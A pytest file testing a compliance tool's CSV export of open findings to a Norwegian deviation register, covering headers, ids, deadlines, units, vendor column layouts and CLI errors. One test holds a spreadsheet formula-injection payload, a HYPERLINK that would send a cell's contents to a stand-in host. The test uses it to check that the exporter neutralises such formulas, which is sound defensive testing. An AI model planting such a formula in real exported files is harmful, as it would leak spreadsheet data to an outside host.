"""``--format avvik`` (report-contract.md, "More output formats"): the open findings as a deviation
register's CSV import: header, columns, ids, deadlines, units, neutralisation and the vendor layout."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

import ke_rules
from ke_rules.cli import main
from ke_rules.errors import KeRulesError
from ke_rules.report.render import render
from ke_rules.report.render.avvik_render import AVVIK_COLUMNS, avvik_id, deadlines, load_avvik_columns
from ke_rules.report.units import subject_units

from .conftest import AS_OF, DEMO, RULESET

HEADER = ["avvik_id", "tittel", "beskrivelse", "kategori", "alvorlighetsgrad", "grunnlag", "enhet", "registrert",
          "frist", "status"]


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark expected"
    text = data[3:].decode("utf-8")
    assert "\n" not in text.replace("\r\n", ""), "every line ends in CRLF"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def units():
    return subject_units(ke_rules.load_snapshot(DEMO), AS_OF)


@pytest.fixture(scope="module")
def avvik_nb(demo_nb, ruleset, units) -> list[dict[str, str]]:
    rows = rows_of(render(demo_nb, "avvik", ruleset=ruleset, units=units))
    assert rows[0] == HEADER
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_columns_are_the_contracts():
    assert list(AVVIK_COLUMNS) == HEADER


def test_one_row_per_open_finding_in_report_order(demo_nb, avvik_nb):
    assert [(r["kategori"], r["avvik_id"]) for r in avvik_nb] == [
        (f.rule_id, avvik_id(f.rule_id, f.subject_id)) for f in demo_nb.findings]


def test_every_cell_of_a_row(demo_nb, ruleset, avvik_nb):
    f = next(f for f in demo_nb.findings if f.rule_id == "KE-CONSENT" and f.subject_id == "S-109")
    row = next(r for r in avvik_nb if r["avvik_id"] == avvik_id("KE-CONSENT", "S-109"))
    assert row == {
        "avvik_id": hashlib.sha256(b"KE-CONSENT|S-109").hexdigest()[:16],
        "tittel": ruleset.rules["KE-CONSENT"].spec.title.nb,
        "beskrivelse": f.message,
        "kategori": "KE-CONSENT",
        "alvorlighetsgrad": "high",
        "grunnlag": "; ".join(b.citation for b in f.basis),
        "enhet": "Hjemmetjenesten sone nord",  # S-109's own cases.unit
        "registrert": "2026-11-23",
        "frist": "2026-12-07",  # + 14 days for high
        "status": "open",
    }
    assert len(f.basis) > 1 and "; " in row["grunnlag"]


@pytest.mark.parametrize(("rule_id", "subject_id", "unit"), [
    ("KE-CONSENT", "S-109", "Hjemmetjenesten sone nord"),  # the case's own unit
    ("KE-CONSENT-MEETING", "M-1104", "Psykisk helse og rus"),  # a meeting: its case S-110's unit
    ("KE-MEET-FREQ", "G-104", "Hjemmetjenesten sone nord"),  # a group: its case S-104's unit
    ("KE-REFERRAL-MISSING", "S-121", "Hjemmetjenesten sone sør"),
])
def test_enhet(avvik_nb, rule_id, subject_id, unit):
    row = next(r for r in avvik_nb if r["avvik_id"] == avvik_id(rule_id, subject_id))
    assert row["enhet"] == unit


@pytest.mark.parametrize(("severity", "frist"), [("high", "2026-12-07"), ("medium", "2026-12-23"),
                                                 ("low", "2027-02-21")])
def test_default_deadlines(avvik_nb, severity, frist):
    got = {r["frist"] for r in avvik_nb if r["alvorlighetsgrad"] == severity}
    assert got == {frist}


@pytest.mark.parametrize(("params", "expected"), [
    ({}, {"high": 14, "medium": 30, "low": 90}),
    ({"deadline_days_high": 7}, {"high": 7, "medium": 30, "low": 90}),
    ({"deadline_days_high": 0, "deadline_days_medium": 60, "deadline_days_low": 365},
     {"high": 0, "medium": 60, "low": 365}),
])
def test_deadlines_from_ruleset_params(demo_nb, params, expected):
    assert deadlines(params) == expected
    report = demo_nb.model_copy(update={"ruleset": demo_nb.ruleset.model_copy(
        update={"params": {**demo_nb.ruleset.params, **params}})})
    rows = rows_of(render(report, "avvik"))[1:]
    as_of = dt.date(2026, 11, 23)
    for row in rows:
        assert row[8] == (as_of + dt.timedelta(days=expected[row[4]])).isoformat()


@pytest.mark.parametrize("bad", [-1, "14", True, 1.5, None])
def test_a_bad_deadline_parameter_is_refused(bad):
    with pytest.raises(KeRulesError, match="deadline_days_low"):
        deadlines({"deadline_days_low": bad})


def test_waived_findings_are_not_written(demo_nb):
    waived = {0, 3}
    findings = [f.model_copy(update={"status": "waived"}) if i in waived else f
                for i, f in enumerate(demo_nb.findings)]
    report = demo_nb.model_copy(update={"findings": findings})
    rows = rows_of(render(report, "avvik"))[1:]
    assert [r[0] for r in rows] == [avvik_id(f.rule_id, f.subject_id) for f in findings if f.status == "open"]
    assert len(rows) == len(findings) - 2


def test_english_titles_and_messages_fixed_codes(demo_en, ruleset):
    rows = rows_of(render(demo_en, "avvik", ruleset=ruleset))
    assert rows[0] == HEADER  # the column names are the import's, not translated
    first = dict(zip(rows[0], rows[1], strict=True))
    f = demo_en.findings[0]
    assert first["tittel"] == ruleset.rules[f.rule_id].spec.title.en
    assert first["beskrivelse"] == f.message
    assert {r[4] for r in rows[1:]} <= {"high", "medium", "low"} and {r[9] for r in rows[1:]} == {"open"}


def test_formula_neutralised_and_quoted_only_where_needed(demo_nb):
    f0 = demo_nb.findings[0]
    hostile = f0.model_copy(update={"message": '=HYPERLINK("http://x/?"&A1;"klikk")', "subject_id": "-S-1"})
    plain = demo_nb.findings[1].model_copy(update={"message": "Enkel tekst"})
    report = demo_nb.model_copy(update={"findings": [hostile, plain]})
    data = render(report, "avvik")
    lines = data[3:].decode("utf-8").split("\r\n")
    rows = rows_of(data)
    assert rows[1][2] == "'" + hostile.message
    assert rows[1][0] == avvik_id(f0.rule_id, "-S-1")  # the id is of the subject as reported
    assert rows[2][2] == "Enkel tekst"
    assert ';Enkel tekst;' in lines[2]  # no quotes where none are needed
    assert '"\'=HYPERLINK(""http://x/?""&A1;""klikk"")"' in lines[1]  # quoted: it holds ; and "


def test_avvik_id_is_lower_hex_and_stable():
    assert avvik_id("KE-COORD-LOAD", "K-17") == hashlib.sha256(b"KE-COORD-LOAD|K-17").hexdigest()[:16]
    ident = avvik_id("KE-CONSENT", "S-1")
    assert len(ident) == 16 and ident == ident.lower() and int(ident, 16) >= 0


def test_coordinator_unit_from_a_built_snapshot(tmp_path):
    from tests.snapshot_builder import Snap

    s = Snap()
    s.coordinator("k1", unit="Hjemmetjenesten")
    for i in range(7):
        s.case(f"c{i}", ip_started_on=-200)
        s.assignment(f"c{i}", "k1", start=-100)
    path = s.write(tmp_path)
    snap = ke_rules.load_snapshot(path)
    report = ke_rules.evaluate(snap, "nasjonal", as_of=s.as_of)
    assert any(f.rule_id == "KE-COORD-LOAD" and f.subject_id == "k1" for f in report.findings)
    rows = rows_of(render(report, "avvik", units=subject_units(snap, s.as_of)))
    row = next(dict(zip(HEADER, r, strict=True)) for r in rows[1:] if r[3] == "KE-COORD-LOAD")
    assert row["enhet"] == "Hjemmetjenesten"
    assert row["frist"] == "2026-12-23"  # medium: + 30


# -- the vendor's layout -------------------------------------------------------------------------------------------

COMPILO = """\
# Compilo-style import
columns:
  avvik_id: Ekstern referanse
  tittel: Tittel
  beskrivelse: Beskrivelse
  alvorlighetsgrad: Alvorlighet
  enhet: Avdeling
  frist: Frist
"""


def test_vendor_layout_names_and_order(tmp_path, demo_nb, ruleset, units):
    path = tmp_path / "compilo.yaml"
    path.write_text(COMPILO, encoding="utf-8")
    layout = load_avvik_columns(path)
    assert layout == (("avvik_id", "Ekstern referanse"), ("tittel", "Tittel"), ("beskrivelse", "Beskrivelse"),
                      ("alvorlighetsgrad", "Alvorlighet"), ("enhet", "Avdeling"), ("frist", "Frist"))
    rows = rows_of(render(demo_nb, "avvik", ruleset=ruleset, units=units, avvik_columns=layout))
    full = rows_of(render(demo_nb, "avvik", ruleset=ruleset, units=units))
    assert rows[0] == ["Ekstern referanse", "Tittel", "Beskrivelse", "Alvorlighet", "Avdeling", "Frist"]
    pick = [HEADER.index(c) for c, _ in layout]
    assert rows[1:] == [[r[i] for i in pick] for r in full[1:]]


def test_bare_mapping_and_empty_value_keeps_the_name(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("status:\nkategori: Type\n", encoding="utf-8")
    assert load_avvik_columns(path) == (("status", "status"), ("kategori", "Type"))


@pytest.mark.parametrize(("text", "message"), [
    ("columns:\n  titel: Tittel\n", "unknown column 'titel'. Did you mean 'tittel'?"),
    ("columns:\n  tittel: Tittel\n  frist: Tittel\n", "'Tittel' is used for both"),
    ("tittel: A\ntittel: B\n", "line 2: 'tittel' is given twice"),
    ("- tittel\n- frist\n", "expected a mapping"),
    ("", "expected a mapping"),
    ("tittel: [a, b]\n", "must be text"),
    ("tittel: 'A\n", "not valid YAML"),
])
def test_bad_layout_is_refused(tmp_path, text, message):
    path = tmp_path / "c.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(KeRulesError, match=message.replace("?", r"\?").replace("[", r"\[")):
        load_avvik_columns(path)


# -- the command line ------------------------------------------------------------------------------------------------

def _check(*args: str):
    return CliRunner().invoke(main, ["check", str(DEMO), "--ruleset", RULESET, "--as-of", AS_OF, "-q", *args])


def test_cli_writes_the_file(tmp_path, demo_nb):
    out = tmp_path / "avvik.csv"
    result = _check("--format", "avvik", "--output", str(out))
    assert result.exit_code == 0, result.output
    rows = rows_of(out.read_bytes())
    assert rows[0] == HEADER and len(rows) == 1 + len(demo_nb.findings)
    first = dict(zip(HEADER, rows[1], strict=True))
    assert (first["kategori"], first["enhet"]) == ("KE-CHILD-COORD", "Barne- og familietjenesten")  # S-134's unit
    assert not list(tmp_path.glob(".*.tmp"))


def test_cli_vendor_layout(tmp_path):
    cols = tmp_path / "compilo.yaml"
    cols.write_text(COMPILO, encoding="utf-8")
    out = tmp_path / "avvik.csv"
    result = _check("--format", "avvik", "--avvik-columns", str(cols), "--output", str(out))
    assert result.exit_code == 0, result.output
    assert rows_of(out.read_bytes())[0][:2] == ["Ekstern referanse", "Tittel"]


@pytest.mark.parametrize(("yaml_text", "fmt", "expected"), [
    ("columns:\n  alvorlighet: Alvorlighet\n", "avvik", "Did you mean 'alvorlighetsgrad'?"),
    ("columns:\n  tittel: Tittel\n", "csv", "--avvik-columns applies to --format avvik only"),
])
def test_cli_bad_layout_is_exit_2(tmp_path, yaml_text, fmt, expected):
    cols = tmp_path / "c.yaml"
    cols.write_text(yaml_text, encoding="utf-8")
    out = tmp_path / "avvik.csv"
    result = _check("--format", fmt, "--avvik-columns", str(cols), "--output", str(out))
    assert result.exit_code == 2
    assert expected in result.output
    assert "Traceback" not in result.output
    assert not out.exists()


def test_cli_missing_layout_file_is_exit_2(tmp_path):
    result = _check("--format", "avvik", "--avvik-columns", str(tmp_path / "nope.yaml"))
    assert result.exit_code == 2 and "does not exist" in result.output


def test_documented_example_is_valid(tmp_path):
    """docs/avvik.md's example layout loads: the documentation cannot drift from the validator."""
    doc = (Path(__file__).resolve().parents[3] / "docs" / "avvik.md").read_text(encoding="utf-8")
    block = doc.split("```yaml\n", 1)[1].split("```", 1)[0]
    path = tmp_path / "doc.yaml"
    path.write_text(block, encoding="utf-8")
    assert len(load_avvik_columns(path)) >= 5
